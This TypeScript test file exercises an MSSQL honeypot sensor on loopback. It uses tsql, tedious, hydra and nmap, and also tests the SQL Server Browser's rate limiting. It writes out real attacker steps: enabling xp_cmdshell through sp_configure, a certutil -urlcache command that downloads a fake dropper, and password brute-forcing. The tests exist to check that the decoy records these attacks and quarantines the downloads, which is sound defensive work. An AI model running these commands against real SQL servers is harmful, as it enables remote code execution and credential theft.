// Real-client tests: FreeTDS tsql, the tedious npm client, hydra and nmap against the MSSQL sensor,
// and the SQL Server Browser on UDP.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { Connection, Request } from 'tedious';
import { startApiaryProcess, waitFor, type ApiaryProcess } from '../../helpers/apiary-process.js';
import { run } from '../../helpers/ssh-tools.js';
import { askUdp } from '../../helpers/udp-ask.js';
import { SSRP_ANSWERS_PER_SECOND, SSRP_ANSWERS_PER_WINDOW } from '../../../src/sensors/mssql/browser.js';

let apiary: ApiaryProcess;
let port: number;
let browserPort: number;

before(async () => {
  apiary = await startApiaryProcess({
    sensor: 'mssql-real-clients',
    auth: [{ user: 'sa', password: ['123456', 'P@ssw0rd'], allow: true }],
    services: { mssql: { listen: ['127.0.0.1:0'], version: '15.0.4322.2', server_name: 'SQLPROD01', browser: { listen: ['127.0.0.1:0'] } } },
    decoy: { database: 'webshop' },
    fetch: { enabled: true, allow_cidrs: ['127.0.0.0/8'] },
  });
  port = apiary.ports.mssql!;
  browserPort = apiary.ports['mssql-browser']!;
});

after(async () => {
  await apiary.stop();
});

test('tsql (FreeTDS) logs in, reads @@version and decoy tables, and an xp_cmdshell line is recorded', async () => {
  // xp_cmdshell is off, as on a new SQL Server: refused (and recorded), then turned on as attackers do, and run.
  const enable = ["EXEC sp_configure 'show advanced options', 1", 'go', 'RECONFIGURE', 'go', "EXEC sp_configure 'xp_cmdshell', 1", 'go', 'RECONFIGURE', 'go'];
  const script = ['SELECT @@version', 'go', 'USE webshop', 'go', 'SELECT TOP 3 id, username FROM users ORDER BY id', 'go', "EXEC master..xp_cmdshell 'hostname'", 'go', ...enable, "EXEC master..xp_cmdshell 'whoami'", 'go', 'exit', ''].join('\n');
  const r = await run('tsql', ['-H', '127.0.0.1', '-p', String(port), '-U', 'sa', '-P', 'P@ssw0rd'], { input: script, timeoutMs: 30_000 });
  assert.equal(r.code, 0, r.stderr + r.stdout);
  assert.match(r.stdout, /Microsoft SQL Server 2019 \(RTM-CU22\) \(KB5027702\) - 15\.0\.4322\.2 \(X64\)/);
  assert.match(r.stdout, /id\tusername\n1\t[a-z0-9]+\n2\t[a-z0-9]+\n3\t[a-z0-9]+\n\(3 rows affected\)/);
  assert.match(r.stdout, /output\nnt service\\mssqlserver\nNULL/);
  assert.match(r.stdout + r.stderr, /Msg 15281 \(severity 16, state 1\)[^\n]*\n\t"SQL Server blocked access to procedure 'sys\.xp_cmdshell' of component 'xp_cmdshell' because this component is turned off/);
  assert.doesNotMatch(r.stdout, /output\n[\w-]+\nNULL\n[\s\S]*output\nnt service/, 'hostname was not run');
  const events = await apiary.events();
  assert.ok(events.some((e) => e.type === 'auth.attempt' && e.username === 'sa' && e.password === 'P@ssw0rd' && e.success === true));
  assert.ok(events.some((e) => e.type === 'exploit.attempt' && e.name === 'mssql.xp_cmdshell' && e.detail === 'whoami'));
  assert.ok(events.some((e) => e.type === 'exploit.attempt' && e.name === 'mssql.xp_cmdshell' && e.detail === 'hostname'), 'the refused one is recorded too');
  assert.ok(events.some((e) => e.type === 'command.input' && e.input === 'whoami'));
  assert.ok(events.some((e) => e.type === 'query' && String(e.query).trim() === 'SELECT TOP 3 id, username FROM users ORDER BY id' && e.database === 'webshop'));
});

function tediousConnect(password: string, database?: string): Promise<Connection> {
  return new Promise((resolve, reject) => {
    const c = new Connection({
      server: '127.0.0.1',
      authentication: { type: 'default', options: { userName: 'sa', password } },
      options: { port, encrypt: false, trustServerCertificate: true, connectTimeout: 10_000, ...(database ? { database } : {}) },
    });
    c.on('connect', (err) => (err ? reject(err) : resolve(c)));
    c.connect();
  });
}

function batch(c: Connection, sql: string): Promise<unknown[][]> {
  return new Promise((resolve, reject) => {
    const rows: unknown[][] = [];
    const r = new Request(sql, (err) => (err ? reject(err) : resolve(rows)));
    r.on('row', (cols: { value: unknown }[]) => rows.push(cols.map((x) => x.value)));
    c.execSqlBatch(r);
  });
}

test('tedious (npm) logs in, runs SELECT @@version, sp_configure and xp_cmdshell whose download lands in quarantine', async () => {
  // The dropper the xp_cmdshell line fetches, served by the test on loopback.
  const payload = Buffer.from('MZ fake dropper for the mssql test');
  const web = createServer((_req, res) => res.end(payload));
  await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
  const url = `http://127.0.0.1:${(web.address() as AddressInfo).port}/p.exe`;
  await assert.rejects(tediousConnect('wrong-password'), /Login failed for user 'sa'/);
  const c = await tediousConnect('123456', 'webshop');
  try {
    const [[version]] = (await batch(c, 'SELECT @@VERSION')) as [[string]];
    assert.match(version, /^Microsoft SQL Server 2019/);
    const admins = await batch(c, 'SELECT username, password FROM admins ORDER BY id');
    assert.equal(admins.length, 5);
    await batch(c, "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE");
    const out = await batch(c, `EXEC xp_cmdshell 'certutil -urlcache -split -f ${url} C:\\Users\\Public\\p.exe'`);
    assert.deepEqual(out, [[null]]);
    await assert.rejects(batch(c, 'SELECT * FROM nothere'), /Invalid object name 'nothere'/);
  } finally {
    c.close();
  }
  const sha = createHash('sha256').update(payload).digest('hex');
  await waitFor(async () => (await apiary.events(['--type', 'file.download'])).some((e) => e.url === url), 10_000);
  web.close();
  const events = await apiary.events();
  assert.ok(events.some((e) => e.type === 'auth.attempt' && e.password === 'wrong-password' && e.success === false));
  const exploits = events.filter((e) => e.type === 'exploit.attempt');
  assert.ok(exploits.some((e) => e.name === 'mssql.sp_configure' && e.detail === 'xp_cmdshell = 1'));
  assert.ok(exploits.some((e) => e.name === 'mssql.sp_configure' && e.detail === 'show advanced options = 1'));
  assert.ok(exploits.some((e) => e.name === 'mssql.xp_cmdshell' && String(e.detail).startsWith('certutil -urlcache')));
  const dl = events.find((e) => e.type === 'file.download' && e.url === url);
  assert.equal(dl?.outcome, 'stored', JSON.stringify(dl));
  assert.equal(dl?.sha256, sha);
  assert.deepEqual(readFileSync(join(apiary.dir, 'data', 'quarantine', sha)), payload);
});

test('hydra mssql finds the password; every TDS login is stored with its password in plaintext', async () => {
  const words = join(apiary.dir, 'mssql-words.txt');
  writeFileSync(words, 'qwerty\nWinter2024!\n123456\n');
  const users = join(apiary.dir, 'mssql-users.txt');
  writeFileSync(users, 'sa\n');
  const r = await run('hydra', ['-L', users, '-P', words, '-t', '1', '-I', `mssql://127.0.0.1:${port}`], { timeoutMs: 60_000 });
  assert.match(r.stdout, /login: sa\s+password: 123456/, r.stdout + r.stderr);
  const events = await apiary.events(['--type', 'auth.attempt']);
  for (const pw of ['qwerty', 'Winter2024!', '123456']) {
    assert.ok(events.some((e) => e.username === 'sa' && e.password === pw && e.success === (pw === '123456')), `attempt with ${pw} stored`);
  }
});

test('nmap -sV names Microsoft SQL Server 2019; ms-sql-empty-password and ms-sql-brute logins are all recorded', async () => {
  const sv = await run('nmap', ['-Pn', '-n', '-sV', '-p', String(port), '127.0.0.1'], { timeoutMs: 120_000 });
  assert.match(sv.stdout, new RegExp(`${port}/tcp\\s+open\\s+ms-sql-s\\s+Microsoft SQL Server 2019 15\\.00\\.4322`), sv.stdout);
  assert.doesNotMatch(sv.stdout, /honeypot|dionaea/i);
  // nmap 7.93's ms-sql-* scripts cannot print results on the portrule path (nmap issue #2622), so they
  // are pointed at the instance through the hostrule path; what matters is what they send.
  const users = join(apiary.dir, 'nmap-users.txt');
  const pass = join(apiary.dir, 'nmap-pass.txt');
  writeFileSync(users, 'sa\n');
  writeFileSync(pass, 'letmein\n123456\n');
  const before = (await apiary.events(['--type', 'auth.attempt'])).length;
  const r = await run('nmap', ['-Pn', '-n', '-p', '9', '--script', 'ms-sql-info,ms-sql-empty-password,ms-sql-brute', '--script-args', `mssql.instance-port=${port},userdb=${users},passdb=${pass}`, '127.0.0.1'], { timeoutMs: 120_000 });
  assert.equal(r.code, 0, r.stderr);
  assert.doesNotMatch(r.stdout, /Script execution failed/);
  const attempts = (await apiary.events(['--type', 'auth.attempt'])).slice(before);
  const tried = attempts.map((e) => `${e.username}:${e.password}`);
  assert.ok(tried.includes('sa:'), `empty password tried: ${tried.join(' ')}`);
  assert.ok(tried.includes('sa:letmein'));
  assert.ok(attempts.some((e) => e.password === '123456' && e.success === true));
  const versions = await apiary.events(['--type', 'client.version']);
  assert.ok(versions.some((e) => String(e.version).includes('Nmap NSE')));
});

const ssrp = (request: Buffer, timeoutMs = 1500, from?: string) => askUdp(browserPort, request, timeoutMs, from);

test('SQL Server Browser answers instance queries with the TCP port, stays silent for unknown instances, and limits answers per source', async () => {
  const all = await ssrp(Buffer.from([0x03]));
  assert.ok(all);
  assert.equal(all[0], 0x05);
  assert.equal(all.readUInt16LE(1), all.length - 3);
  assert.equal(all.subarray(3).toString('latin1'), `ServerName;SQLPROD01;InstanceName;MSSQLSERVER;IsClustered;No;Version;15.0.4322.2;tcp;${port};;`);
  const one = await ssrp(Buffer.concat([Buffer.from([0x04]), Buffer.from('MSSQLSERVER\0')]));
  assert.ok(one?.subarray(3).toString('latin1').includes(`tcp;${port}`));
  assert.equal(await ssrp(Buffer.concat([Buffer.from([0x04]), Buffer.from('NOPE\0')]), 500), undefined);
  let answered = 2;
  for (let i = 0; i < SSRP_ANSWERS_PER_WINDOW + 2; i++) if (await ssrp(Buffer.from([0x02]), 300)) answered++;
  assert.equal(answered, SSRP_ANSWERS_PER_WINDOW);
  const probes = await apiary.events(['--type', 'scan.probe']);
  assert.ok(probes.filter((e) => e.protocol === 'mssql-browser').length >= SSRP_ANSWERS_PER_WINDOW + 3);
});

test('SQL Server Browser answers all sources together at most SSRP_ANSWERS_PER_SECOND times a second (forged sources cannot use it as an amplifier)', async () => {
  // 150 sources at once, each within its own limit: before the overall bound every one was answered.
  const sources = Array.from({ length: 150 }, (_, i) => `127.0.${1 + (i >> 7)}.${2 + (i & 127)}`);
  const answers = await Promise.all(sources.map((from) => ssrp(Buffer.from([0x02]), 1500, from)));
  const answered = answers.filter(Boolean).length;
  // Sent within well under a second, they fall in one second of the bound or two.
  assert.ok(answered >= SSRP_ANSWERS_PER_SECOND && answered <= 2 * SSRP_ANSWERS_PER_SECOND, `${answered} answered`);
  const probes = await apiary.events(['--type', 'scan.probe']);
  const seen = new Set(probes.filter((e) => e.protocol === 'mssql-browser').map((e) => e.src_ip));
  assert.ok(sources.every((s) => seen.has(s)), 'every request is recorded, answered or not');
});
